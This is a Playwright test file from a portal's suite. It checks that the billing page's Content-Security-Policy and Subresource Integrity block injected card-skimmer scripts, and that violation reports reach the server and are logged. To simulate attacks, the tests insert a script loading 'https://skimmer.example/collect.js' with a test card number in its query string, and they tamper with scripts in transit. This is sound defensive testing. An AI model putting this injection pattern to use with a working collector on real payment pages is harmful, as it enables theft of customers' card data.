import { expect, test, type Browser, type Page } from '@playwright/test';
import { MANY_SIGN_INS, PRINCIPALS, signInAs } from './support/objects-principals';
import { portalServer } from './support/server';

/**
 * A skimmer on the page that embeds the payment gateway's card frame (PCI DSS 4.0.1 6.4.3 and 11.6.1, docs/security.md
 * "PCI DSS 4.0.1 SAQ A: payment pages"). Something between the portal and the browser (a compromised proxy or CDN)
 * adds a script to the billing page, or changes the bytes of one of its scripts. The page's Content-Security-Policy
 * refuses the added scripts and the browser reports each to the portal (logged and counted); Subresource Integrity
 * refuses the changed script: none of the skimmer's code runs.
 */

const server = portalServer(MANY_SIGN_INS);
test.beforeAll(() => server.start());
test.afterAll(() => server.dispose());

const SKIMMER = 'window.__skimmed = document.documentElement.outerHTML.length;';

async function openBillingPage(browser: Browser, tamper: (page: Page) => Promise<unknown>) {
  const token = await signInAs(server.baseURL, PRINCIPALS.customer);
  const context = await browser.newContext({ serviceWorkers: 'block' });
  await context.addInitScript((accessToken) => {
    if (!localStorage.getItem('portal.session')) localStorage.setItem('portal.session', JSON.stringify({ accessToken }));
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
  }, token);
  const page = await context.newPage();
  const consoleErrors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') consoleErrors.push(message.text());
  });
  await tamper(page);
  await page.goto(`${server.baseURL}/account/billing-details`);
  const skimmed = () => page.evaluate(() => (window as unknown as { __skimmed?: number }).__skimmed);
  const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
  return { page, consoleErrors, skimmed, violations, close: () => context.close() };
}

/** The violation lines the server logged since `from` (its log is JSON lines). */
const reportedSince = (from: number) =>
  server
    .log()
    .slice(from)
    .split('\n')
    .filter((line) => line.includes('content security policy violation'))
    .map((line) => JSON.parse(line.slice(line.indexOf('{'))).cspViolation as { directive: string; blocked: string; document: string });

test('scripts added to the payment page on the way are refused by its policy', async ({ browser }) => {
  const { page, skimmed, violations, close } = await openBillingPage(browser, (page) =>
    page.route(`${server.baseURL}/account/billing-details`, async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace('<div id=root>', `<script>${SKIMMER}</script><script src="https://skimmer.example/collect.js"></script><div id=root>`);
      await route.fulfill({ response, body: html });
    }),
  );
  // The page itself still works: its own scripts are allowed.
  await expect(page.getByRole('button', { name: 'Pay now' })).toBeVisible();
  expect(await skimmed()).toBeUndefined();
  expect((await violations()).sort()).toEqual(['script-src-elem https://skimmer.example/collect.js', 'script-src-elem inline']);
  await close();
});

test('scripts a page injects into itself are refused, and the report of each reaches the portal, which logs it', async ({ browser }) => {
  const logFrom = server.log().length;
  const { page, skimmed, violations, close } = await openBillingPage(browser, async () => undefined);
  await expect(page.getByRole('button', { name: 'Pay now' })).toBeVisible();
  // What an XSS in the page would do: add a skimmer's script, inline and from its own origin.
  await page.evaluate((skimmer) => {
    const reports: unknown[] = [];
    (window as unknown as { __reports: unknown[] }).__reports = reports;
    // Each refusal as the Reporting API sends it to report-to's endpoint (W3C CSP 3 CSPViolationReportBody).
    document.addEventListener('securitypolicyviolation', (e) =>
      reports.push({
        age: 0,
        type: 'csp-violation',
        url: document.URL,
        user_agent: navigator.userAgent,
        body: {
          documentURL: e.documentURI,
          referrer: e.referrer,
          blockedURL: e.blockedURI,
          effectiveDirective: e.effectiveDirective,
          originalPolicy: e.originalPolicy,
          sourceFile: e.sourceFile || null,
          sample: e.sample,
          disposition: e.disposition,
          statusCode: e.statusCode,
          lineNumber: e.lineNumber,
          columnNumber: e.columnNumber,
        },
      }),
    );
    const inline = document.createElement('script');
    inline.textContent = skimmer;
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://skimmer.example/collect.js?card=4111111111111111';
    document.body.append(remote);
  }, SKIMMER);
  await expect.poll(async () => (await violations()).length).toBe(2);
  expect(await skimmed()).toBeUndefined();

  // The policy names the endpoint both ways; headless Chromium here queues report-to deliveries beyond a test's time,
  // so the page posts the reports the browser made, to the address Reporting-Endpoints names, as the browser would.
  const response = await page.request.get(`${server.baseURL}/account/billing-details`, { headers: { accept: 'text/html' } });
  expect(response.headers()['content-security-policy']).toContain('report-uri /api/csp-report; report-to csp-endpoint');
  const endpoint = /csp-endpoint="([^"]+)"/.exec(response.headers()['reporting-endpoints'] ?? '')?.[1];
  expect(endpoint).toBe('/api/csp-report');
  const status = await page.evaluate(async (url) => {
    const reports = (window as unknown as { __reports: unknown[] }).__reports;
    return (await fetch(url, { method: 'POST', headers: { 'content-type': 'application/reports+json' }, body: JSON.stringify(reports) })).status;
  }, endpoint!);
  expect(status).toBe(204);

  // The portal logs each, its addresses without their query strings.
  await expect.poll(() => reportedSince(logFrom).map((r) => `${r.directive} ${r.blocked}`).sort()).toEqual([
    'script-src-elem https://skimmer.example/collect.js',
    'script-src-elem inline',
  ]);
  expect(reportedSince(logFrom).every((r) => r.document === `${server.baseURL}/account/billing-details`)).toBe(true);
  expect(server.log().slice(logFrom)).not.toContain('4111111111111111');
  await close();
});

test('a payment page script whose bytes were changed is refused by its integrity, and so is an area entry', async ({ browser }) => {
  for (const target of ['/main.js', '/remotes/billing/remoteEntry.js']) {
    const { page, skimmed, consoleErrors, close } = await openBillingPage(browser, (page) =>
      page.route(`${server.baseURL}${target}`, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `${SKIMMER}\n${await response.text()}` });
      }),
    );
    await expect.poll(() => consoleErrors.some((e) => /integrity/i.test(e)), { message: `${target}: the browser refused it for its integrity` }).toBe(true);
    expect(await skimmed(), `${target}: the changed script did not run`).toBeUndefined();
    // Without its code the page cannot show the pay dialog.
    await expect(page.getByRole('button', { name: 'Pay now' })).toHaveCount(0);
    await close();
  }
});
